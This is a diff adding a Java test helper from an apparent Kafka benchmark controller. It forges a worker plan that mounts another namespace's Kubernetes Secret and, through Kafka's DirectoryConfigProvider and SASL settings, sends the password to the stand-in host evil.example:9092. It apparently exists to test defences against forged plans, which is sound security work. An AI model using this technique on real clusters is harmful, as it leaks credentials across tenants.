@@ -1,0 +1,42 @@
+package io.skewbench.controller.attack;
+
+import io.skewbench.protocol.Json;
+import io.skewbench.protocol.LoadPlan;
+import io.skewbench.protocol.PlanText;
+import io.skewbench.protocol.WorkerPlan;
+import io.skewbench.protocol.WorkerPlan.RandomValues;
+import io.skewbench.protocol.WorkerPlan.RecordPlan;
+import io.skewbench.protocol.WorkerPlan.SendPlan;
+import io.skewbench.protocol.WorkerPlan.TopicShare;
+import java.util.List;
+import java.util.Map;
+
+/** What an attacker writes in the operator's stead. */
+final class Forgery {
+    /** Of the attacker: whoever sends it credentials gives them away. */
+    static final String SERVER = "evil.example:9092";
+    static final String SECRET = "root-password";
+
+    private Forgery() {}
+
+    static Map<String, String> labels(String runId, String attempt) {
+        return Map.of("app.kubernetes.io/managed-by", "skewbench", "skewbench.io/run", runId, "skewbench.io/attempt",
+                attempt, "skewbench.io/part", "plan");
+    }
+
+    /** Returns a plan that mounts a Secret of another namespace, and sends what it holds to the attacker. */
+    static Map<String, String> plan(String victim) {
+        return Map.of(PlanText.key("c1"), PlanText.of(workerPlan()).json(), "offsets-before.json", "{}", "mounts.json",
+                Json.write(List.of(Map.of("namespace", victim, "secret", SECRET, "path", "/etc/stolen", "keys",
+                        List.of("password")))));
+    }
+
+    private static WorkerPlan workerPlan() {
+        return new WorkerPlan("forged-t0a0", "c1", 1, 1, List.of(new TopicShare("any", 1)), List.of(), SERVER, null,
+                Map.of("config.providers", "directory", "config.providers.directory.class",
+                        "org.apache.kafka.common.config.provider.DirectoryConfigProvider", "security.protocol",
+                        "SASL_PLAINTEXT", "sasl.jaas.config", "${directory:/etc/stolen:password}"),
+                Map.of(), new LoadPlan.Unlimited(), SendPlan.PLAIN, new RecordPlan(null, RandomValues.ofSize(1)), 0,
+                1_000, 1, null);
+    }
+}
